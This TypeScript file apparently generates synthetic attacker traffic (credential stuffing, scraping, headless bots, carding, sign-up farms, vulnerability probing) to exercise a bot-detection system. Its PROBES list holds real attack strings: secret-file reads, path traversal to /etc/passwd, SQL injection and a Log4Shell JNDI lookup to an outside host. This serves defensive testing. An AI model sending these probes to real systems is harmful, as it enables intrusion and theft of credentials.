import { DISPOSABLE } from '../../traffic/identities.ts';
import { CHROMIUM_DESKTOPS } from '../browsers.ts';
import { emailAt, makePerson } from '../people.ts';
import { addressIn, GERMANY, HOSTING_NETWORKS, PLACES } from '../places.ts';
import { momentAt, type Persona, type Step } from '../plan.ts';
import { headersOf, only, visit } from '../visit.ts';
import { attacker, mask, times } from './attacker.ts';

/** Attackers that each single request reveals. */

const SCRIPTS = ['python-requests/2.32.5', 'python-requests/2.31.0'];
const SCRIPT_HEADERS = { accept: '*/*', 'accept-encoding': 'gzip, deflate' };
/** TLS fingerprint of Python requests, regardless of the user agent it sends. */
const SCRIPT_JA4 = 't13d1812h1_85036bcba153_b26ce05bbdd6';

const LIBRARIES_AND_CRAWLERS = [
  'python-requests/2.32.5',
  'Scrapy/2.13.3 (+https://scrapy.org)',
  'Go-http-client/2.0',
  'curl/8.14.1',
  'axios/1.12.2',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
];

const HEADLESS_AGENT =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/157.0.0.0 Safari/537.36';

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/static/../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2fetc%2fpasswd',
  '/.aws/credentials',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  "/search?q=shoes'+OR+1=1--",
  '/index.php?s=${jndi:ldap://203.0.113.9/a}',
  '/backup/.env.production',
];

export const PLAIN_ATTACKERS: readonly Persona[] = [
  attacker({
    id: 'stuffer_script',
    title: 'Credential stuffer, script',
    plan(day, random) {
      const ip = addressIn(HOSTING_NETWORKS, random);
      return times(14, (i) =>
        visit(mask(GERMANY, ip, random), momentAt(day, 2.5, i * 7), only('login', '/login'), random, {
          token: 'opaque',
          userAgent: random.pick(SCRIPTS),
          headers: SCRIPT_HEADERS,
        }),
      );
    },
  }),
  attacker({
    id: 'stuffer_tls',
    title: 'Credential stuffer, TLS passed on',
    plan(day, random) {
      const ip = addressIn(HOSTING_NETWORKS, random);
      return times(10, (i) => {
        const person = mask(GERMANY, ip, random);
        return visit(person, momentAt(day, 3.5, i * 9), only('login', '/login', '/'), random, {
          token: 'opaque',
          headers: { ...headersOf(person.device), 'x-svc-ja4': SCRIPT_JA4 },
        });
      });
    },
  }),
  attacker({
    id: 'scraper',
    title: 'Scraper, libraries and crawlers',
    plan: (day, random) =>
      times(12, (i) => {
        const person = mask(random.pick(PLACES), addressIn(HOSTING_NETWORKS, random), random);
        const pages = times(random.between(3, 7), (page): Step => {
          const path = `/search?q=shoes&page=${page + 1}`;
          return { type: 'search', path, from: null, afterSeconds: page === 0 ? 0 : 3 };
        });
        return visit(person, momentAt(day, 4 + i * 1.4, random.between(0, 900)), pages, random, {
          token: 'opaque',
          userAgent: LIBRARIES_AND_CRAWLERS[i % LIBRARIES_AND_CRAWLERS.length] ?? 'curl/8.14.1',
          headers: SCRIPT_HEADERS,
        });
      }),
  }),
  attacker({
    id: 'headless_bot',
    title: 'Headless browser',
    plan: (day, random) =>
      times(12, (i) => {
        const person = makePerson(
          random.pick(PLACES),
          random.pick(CHROMIUM_DESKTOPS),
          random,
          addressIn(HOSTING_NETWORKS, random),
        );
        const steps: Step[] = [
          { type: 'search', path: '/search?q=console', from: null, afterSeconds: 0 },
          { type: 'checkout', path: '/checkout', from: '/basket', afterSeconds: 4 },
          { type: 'payment', path: '/checkout/payment', from: '/checkout', afterSeconds: 3 },
        ];
        const start = momentAt(day, 9 + i * 0.6, random.between(0, 600));
        // Alternates between three signs: the user agent, the webdriver flag, and a browser without plugins and languages.
        const bare = { plugins: 0, languages: [] };
        const signals = i % 3 === 1 ? { webdriver: true } : bare;
        return i % 3 === 0
          ? visit(person, start, steps, random, { token: 'opaque', userAgent: HEADLESS_AGENT })
          : visit(person, start, steps, random, { signals });
      }),
  }),
  attacker({
    id: 'carder_disposable',
    title: 'Carder, disposable e-mails',
    plan(day, random) {
      const ip = addressIn(HOSTING_NETWORKS, random);
      return times(12, (i) => {
        const person = mask(random.pick(PLACES), ip, random);
        const steps = only('payment', '/checkout/payment', i % 2 === 0 ? null : '/checkout');
        const email = emailAt(random.pick(DISPOSABLE), person.email);
        return visit(person, momentAt(day, 1, i * 110 + random.between(0, 40)), steps, random, {
          token: 'opaque',
          email,
        });
      });
    },
  }),
  attacker({
    id: 'signup_farm',
    title: 'Sign-up farm, disposable e-mails',
    plan(day, random) {
      const ip = addressIn(HOSTING_NETWORKS, random);
      return times(12, (i) =>
        visit(
          mask(random.pick(PLACES), ip, random),
          momentAt(day, 13, i * 75 + random.between(0, 30)),
          only('signup', '/register', '/'),
          random,
          { token: 'opaque', email: `${random.hex(9)}@${random.pick(DISPOSABLE)}` },
        ),
      );
    },
  }),
  attacker({
    id: 'prober',
    title: 'Vulnerability prober',
    plan: (day, random) =>
      times(PROBES.length, (i) => {
        const person = mask(random.pick(PLACES), addressIn(HOSTING_NETWORKS, random), random);
        return visit(person, momentAt(day, 5, i * 20), only('search', PROBES[i] ?? '/.env'), random, {
          token: 'opaque',
        });
      }),
  }),
];
